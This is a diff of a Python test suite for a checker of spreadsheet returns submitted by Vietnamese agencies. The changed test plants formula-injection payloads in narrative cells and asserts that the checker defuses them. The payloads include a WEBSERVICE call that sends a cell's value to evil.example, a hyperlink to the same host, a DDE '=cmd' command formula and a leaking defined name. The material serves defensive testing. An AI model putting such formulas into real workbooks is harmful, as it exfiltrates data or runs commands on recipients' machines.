@@ -70,7 +70,7 @@ def sample(spec, registry, code: str = "STC", seed: int = 1, mistakes: int = 4) 
 def write_return(folder: Path, name: str, spec, smp: SampleReturn) -> Path:
     path = folder / name
     path.write_bytes(build_workbook(spec, agency=smp.agency, values=smp.values, projects=smp.projects,
-                                    cell_text=smp.cell_text))
+                                    cell_text=smp.cell_text, tables=smp.tables))
     return path
 
 
@@ -283,11 +283,13 @@ def test_agency_formulas_that_reach_outside_are_defused(tmp_path, spec, registry
     source = write_return(tmp_path, "tampered.xlsx", spec, smp)
     wb = openpyxl.load_workbook(source)
     ws = wb["Hiện trạng"]
-    ws["D79"] = '=HYPERLINK("http://evil.example","Bấm vào đây")'
-    ws["D80"] = '=WEBSERVICE("http://evil.example/?q="&D7)'
-    ws["D81"] = "=cmd|' /C calc'!A0"
-    ws["D82"] = "=SUM(D7,1)"  # harmless arithmetic stays a formula
-    ws["D83"].hyperlink = "http://evil.example"
+    cells = layout_for(spec).cells
+    narrative = [cells[f].a1 for f in ("dg_ket_qua", "dg_ton_tai", "dg_kho_khan", "dg_nguyen_nhan", "dg_de_xuat")]
+    ws[narrative[0]] = '=HYPERLINK("http://evil.example","Bấm vào đây")'
+    ws[narrative[1]] = '=WEBSERVICE("http://evil.example/?q="&D7)'
+    ws[narrative[2]] = "=cmd|' /C calc'!A0"
+    ws[narrative[3]] = "=SUM(D7,1)"  # harmless arithmetic stays a formula
+    ws[narrative[4]].hyperlink = "http://evil.example"
     wb.defined_names.add(openpyxl.workbook.defined_name.DefinedName("leak", attr_text='WEBSERVICE("http://x")'))
     wb.save(source)
     submission, issues = check(source, spec, registry)
@@ -299,11 +301,12 @@ def test_agency_formulas_that_reach_outside_are_defused(tmp_path, spec, registry
     copy = openpyxl.load_workbook(out)
     # Saved by openpyxl, they have no value to show: each becomes its own text, as text (the agency sees what it
     # typed; the issues sheet says so), never a formula or a link.
-    for cell, typed in (("D79", '=HYPERLINK("http://evil.example","Bấm vào đây")'),
-                        ("D80", '=WEBSERVICE("http://evil.example/?q="&D7)'), ("D81", "=cmd|' /C calc'!A0")):
+    for cell, typed in ((narrative[0], '=HYPERLINK("http://evil.example","Bấm vào đây")'),
+                        (narrative[1], '=WEBSERVICE("http://evil.example/?q="&D7)'),
+                        (narrative[2], "=cmd|' /C calc'!A0")):
         assert (copy["Hiện trạng"][cell].value, copy["Hiện trạng"][cell].data_type) == (typed, "s")
         assert copy["Hiện trạng"][cell].hyperlink is None
-    assert copy["Hiện trạng"]["D82"].data_type == "f"
+    assert copy["Hiện trạng"][narrative[3]].data_type == "f"
     assert "leak" not in copy.defined_names
     # The template's own formulas still compute: the computed ratio and the project totals.
     ratio = layout_for(spec).cells["ty_le_may_tren_cbcc"]
@@ -315,7 +318,7 @@ def test_xlsm_return_gives_xlsx_feedback_without_macros(tmp_path, spec, registry
     smp = sample(spec, registry, code="SNV", seed=3)
     source = tmp_path / "bao_cao_SNV.xlsm"
     source.write_bytes(as_xlsm(build_workbook(spec, agency=smp.agency, values=smp.values,
-                                              projects=smp.projects, cell_text=smp.cell_text)))
+                                              projects=smp.projects, cell_text=smp.cell_text, tables=smp.tables)))
     submission, issues = check(source, spec, registry)
     assert submission.format == "xlsm" and submission.readable
     assert "FILE_MACROS" in {i.code for i in issues}
